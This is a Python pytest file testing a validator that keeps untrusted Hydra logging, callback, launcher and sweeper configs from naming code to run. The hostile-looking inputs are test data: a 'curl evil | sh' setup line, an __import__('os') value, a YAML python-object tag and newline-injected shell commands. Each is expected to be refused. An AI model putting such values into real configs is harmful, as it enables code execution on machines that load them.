"""What the hydra node may contain; what it may not is in test_hostile.py."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hydra.types import RunMode

from fusionkit import config
from fusionkit.config import safe
from fusionkit.config.composition import CheckingLoader, prepare, search_path
from fusionkit.config.hydra_node import check_search_path, covered
from fusionkit.errors import ConfigError


def compose(folder: Path | None = None, *overrides: str) -> Any:
    prepare()
    loader = CheckingLoader(search_path(None, None if folder is None else str(folder)))
    return loader.load_configuration("config", list(overrides), RunMode.RUN)


@pytest.mark.parametrize(
    "overrides",
    [
        ["hydra/job_logging=default"],
        ["hydra/job_logging=stdout"],
        ["hydra/job_logging=disabled"],
        ["hydra/hydra_logging=disabled"],
        ["hydra.run.dir=elsewhere"],
        ["hydra.run={dir: elsewhere}"],
        ["hydra.sweep.dir=elsewhere", "hydra.sweep.subdir=x"],
        ["hydra.output_subdir=null"],
        ["hydra.verbose=true"],
        ["hydra.verbose=[fusionkit]"],
        ["hydra.job.name=mine"],
        ["hydra/job_logging=default", "hydra.job_logging.handlers.file.filename=/elsewhere/x.log"],
        ["hydra.sweeper.max_batch_size=3"],
    ],
)
def test_hydras_own_options_work(overrides: list[str]) -> None:
    compose(None, *overrides)


LOGGING = """\
version: 1
formatters:
  plain: {format: '%(message)s', datefmt: '%H', class: logging.Formatter}
filters:
  mine: {name: fusionkit}
handlers:
  console: {class: logging.StreamHandler, stream: 'ext://sys.stderr', formatter: plain, level: INFO, filters: [mine]}
  file:
    class: logging.handlers.RotatingFileHandler
    filename: ${hydra.runtime.output_dir}/mine.log
    maxBytes: 1000
    backupCount: 2
  nothing: {class: logging.NullHandler}
loggers:
  fusionkit: {level: DEBUG, handlers: [console], propagate: false}
root: {level: INFO, handlers: [file, nothing]}
disable_existing_loggers: false
"""


def test_harmless_logging_may_come_from_anywhere(folder: Callable[[dict[str, str]], Path]) -> None:
    compose(folder({"hydra/job_logging/mine.yaml": LOGGING}), "hydra/job_logging=mine")


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("${hydra.runtime.output_dir}/mine.log", "mine.log", "handlers.file.filename should be inside"),
        (
            "${hydra.runtime.output_dir}/mine.log",
            "${hydra.runtime.output_dir}/../a",
            "handlers.file.filename should be",
        ),
        ("${hydra.runtime.output_dir}/mine.log", "${hydra.run.dir}/a", "handlers.file.filename should be inside"),
        ("logging.NullHandler", "logging.handlers.SocketHandler", "handlers.nothing.class should be one of"),
        ("logging.NullHandler", "logging.handlers.QueueHandler", "handlers.nothing.class should be one of"),
        ("logging.NullHandler", "logging.handlers.logging.NullHandler", "handlers.nothing.class should be one of"),
        ("class: logging.NullHandler", "'()': logging.NullHandler", "handlers.nothing.() should not be in a config"),
        ("class: logging.NullHandler", "class: logging.NullHandler, x: 1", "handlers.nothing.x should not be in"),
        (
            "class: logging.NullHandler",
            "class: logging.NullHandler, '.': {x: 1}",
            "handlers.nothing.. should not be in",
        ),
        (
            "ext://sys.stderr",
            "ext://sys.stdin",
            "handlers.console.stream should be ext://sys.stdout or ext://sys.stderr",
        ),
        ("'%H'", "'ext://os.environ'", "formatters.plain.datefmt should be"),
        ("'%H'", "'cfg://handlers'", "formatters.plain.datefmt should be"),
        ("datefmt: '%H'", "style: '{'", "formatters.plain.style should be '%' or '$'"),
        ("class: logging.Formatter", "class: logging.BufferingFormatter", "formatters.plain.class should be"),
        ("mine: {name: fusionkit}", "mine: {class: x}", "filters.mine.class should not be in a config"),
        ("mine: {name: fusionkit}", "mine: 3", "filters.mine should be a mapping"),
        ("version: 1", "version: 1\nextra: {}", "job_logging.extra should not be in a config"),
        ("propagate: false", "factory: x", "loggers.fusionkit.factory should not be in a config"),
        ("root: {level: INFO,", "root: {x: INFO,", "root.x should not be in a config"),
    ],
)
def test_anything_else_in_logging_is_refused(
    old: str, new: str, message: str, folder: Callable[[dict[str, str]], Path]
) -> None:
    assert old in LOGGING
    untrusted = folder({"hydra/job_logging/mine.yaml": LOGGING.replace(old, new)})
    with pytest.raises(ConfigError) as error:
        compose(untrusted, "hydra/job_logging=mine")
    assert str(error.value).startswith("hydra.job_logging")
    assert message in str(error.value)


def test_a_callback_has_to_be_allowed_from_python(
    folder: Callable[[dict[str, str]], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(safe, "_extra", {})
    untrusted = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, verbose: true}\n"})
    with pytest.raises(
        ConfigError, match=r"hydra\.callbacks\.x\._target_ should be allowed by fusionkit\.config\.allow"
    ):
        compose(untrusted, "hydra/callbacks=mine")
    config.allow("tests.tripwire.Fire")
    compose(untrusted, "hydra/callbacks=mine")
    nested = folder(
        {"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, y: {_target_: tests.tripwire.fire}}\n"}
    )
    with pytest.raises(ConfigError, match=r"hydra\.callbacks\.x\.y\._target_ should not be in the hydra node"):
        compose(nested, "hydra/callbacks=mine")


@pytest.mark.parametrize(
    ("entries", "message"),
    [
        (["pkg://os"], r"hydra\.searchpath\[0\] should be the path of a folder .* found 'pkg://os'"),
        (["/a", "structured://x"], r"hydra\.searchpath\[1\] should be the path of a folder"),
        (["${oc.env:HOME}"], r"hydra\.searchpath\[0\] should be the path of a folder, written out"),
        ("/a", r"hydra\.searchpath should be a list of folders"),
        ([3], r"hydra\.searchpath\[0\] should be the path of a folder"),
    ],
)
def test_the_search_path_of_a_config_holds_folders(entries: Any, message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        check_search_path(entries)


def test_folders_may_be_searched() -> None:
    check_search_path(None)
    check_search_path(["/a", "b/c", "file:///d"])


def test_the_command_line_covers_what_is_below() -> None:
    assert covered("hydra.run.dir", ["hydra.run.dir"])
    assert covered("hydra.run.dir", ["hydra.run"])
    assert covered("hydra.x[0]", ["hydra.x"])
    assert not covered("hydra.run.dir", ["hydra.run.dirs", "hydra.ru", "run.dir"])


LAUNCHER = "_target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n"


def test_a_launcher_keeps_its_defaults_whatever_they_say(monkeypatch: pytest.MonkeyPatch) -> None:
    from hydra.core.config_store import ConfigStore

    from fusionkit.config import hydra_node

    node = {"_target_": "hydra_plugins.x.X", "setup": ["module load x"], "init": {"address": "here", "ports": [1]}}
    monkeypatch.setattr(hydra_node, "_plugin_classes", lambda role: {"hydra_plugins.x.X"})
    monkeypatch.setattr(ConfigStore.instance(), "repo", {"hydra": {"launcher": {}}})
    with pytest.raises(ConfigError, match=r"hydra\.launcher\.setup\[0\] should be the plugin's default"):
        hydra_node._check_plugin(node, "launcher", [])
    ConfigStore.instance().store("x", node, "hydra/launcher")
    hydra_node._check_plugin(node, "launcher", [])
    hydra_node._check_plugin({**node, "init": {"address": "here", "ports": [2]}}, "launcher", [])
    for changed, key in (
        ({"setup": ["module load y"]}, "setup[0]"),
        ({"init": {"address": "there"}}, "init.address"),
        ({"init": {"address": "here", "ports": [1, 2]}}, "init.ports[1]"),
    ):
        with pytest.raises(ConfigError) as error:
            hydra_node._check_plugin({**node, **changed}, "launcher", [])
        assert str(error.value).startswith(f"hydra.launcher.{key} should be the plugin's default or stand on")
        hydra_node._check_plugin({**node, **changed}, "launcher", [f"hydra.launcher.{key.partition('[')[0]}"])


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("_target_: tests.tripwire.Fire\n", "hydra.launcher._target_ should be one of hydra._internal.core_plugins."),
        (
            LAUNCHER + "setup: ['curl evil | sh']\n",
            "hydra.launcher.setup[0] should be the plugin's default or stand on",
        ),
        (LAUNCHER + "python: /tmp/evil\n", "hydra.launcher.python should be the plugin's default or stand on"),
        (LAUNCHER + "_args_: [a]\n", "hydra.launcher._args_ should not be in a config"),
        (LAUNCHER + "partition: ${evil}\n", "hydra.launcher.partition should be the plugin's default or stand on"),
        # In a batch script each would be a line of its own.
        (LAUNCHER + 'comment: "x\\ntouch y"\n', "hydra.launcher.comment should be the plugin's default or stand on"),
        (LAUNCHER + 'additional_parameters: {"x\\ntouch y": 1}\n', "additional_parameters should have plain names"),
        (LAUNCHER + "additional_parameters: {wrap: 1}\n", "hydra.launcher.additional_parameters.wrap should be"),
        (LAUNCHER + "srun_args: [--bcast]\n", "hydra.launcher.srun_args[0] should be the plugin's default"),
        (LAUNCHER + "env_setup: {pip_packages: {evil: 1}}\n", "hydra.launcher.env_setup.pip_packages.evil should be"),
        (LAUNCHER + "pre_dispatch: __import__('os')\n", "hydra.launcher.pre_dispatch should be the plugin's default"),
        (
            LAUNCHER + "folder: !!python/object/apply:pathlib.Path [/tmp]\n",
            "hydra.launcher.folder should be the plugin's default or stand on",
        ),
        ("[]\n", "hydra.launcher should be a mapping"),
    ],
)
def test_a_launcher_may_not_name_anything_to_run(
    text: str, message: str, folder: Callable[[dict[str, str]], Path]
) -> None:
    with pytest.raises(ConfigError) as error:
        compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine")
    assert message in str(error.value)


def test_a_launcher_takes_numbers_and_plain_texts(folder: Callable[[dict[str, str]], Path]) -> None:
    text = LAUNCHER + (
        "timeout_min: 3\npartition: gpu\nbackend: loky\npre_dispatch: 2*n_jobs\ncomment: 'a run'\n"
        "constraint: 'a100|h100'\nray: {init: {num_cpus: 2}}\n"
    )
    compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine")
    text = LAUNCHER + "setup: []\n"
    compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine", "hydra.launcher.setup=[module load x]")


SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\nmax_batch_size: null\nparams: null\n"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            SWEEPER + "custom_search_space: tests.tripwire.fire\n",
            "hydra.sweeper.custom_search_space should be empty, because",
        ),
        (SWEEPER + "storage: sqlite:////tmp/x\n", "hydra.sweeper.storage should be the plugin's default or stand on"),
        (
            SWEEPER + "sampler: {_target_: tests.tripwire.Fire}\n",
            "hydra.sweeper.sampler._target_ should be a class of optuna",
        ),
        (
            SWEEPER + "sampler: {_target_: optuna.samplers._base.BaseSampler}\n",
            "hydra.sweeper.sampler._target_ should be a class of optuna.samplers",
        ),
        (
            SWEEPER + "x: {y: [{_target_: tests.tripwire.Fire}]}\n",
            "hydra.sweeper.x.y[0]._target_ should not be in the hydra node",
        ),
    ],
)
def test_a_sweeper_may_not_either(text: str, message: str, folder: Callable[[dict[str, str]], Path]) -> None:
    with pytest.raises(ConfigError) as error:
        compose(folder({"hydra/sweeper/mine.yaml": text}), "hydra/sweeper=mine")
    assert message in str(error.value)


def test_what_is_allowed_here_is_not_allowed_in_workers(
    folder: Callable[[dict[str, str]], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from fusionkit.config import hydra_node

    monkeypatch.setattr(safe, "_extra", {})
    monkeypatch.setattr(hydra_node, "_plugin_classes", lambda role: {"hydra_plugins.x.XLauncher"})
    untrusted = folder({"hydra/launcher/mine.yaml": "_target_: hydra_plugins.x.XLauncher\n"})
    node = {"_target_": "hydra_plugins.x.XLauncher"}
    hydra_node._check_plugin(node, "launcher", [])
    config.allow("tests.tripwire.Fire")
    with pytest.raises(
        ConfigError, match=r"should be the basic launcher, because what fusionkit\.config\.allow permits"
    ):
        hydra_node._check_plugin(node, "launcher", [])
    assert untrusted.is_dir()
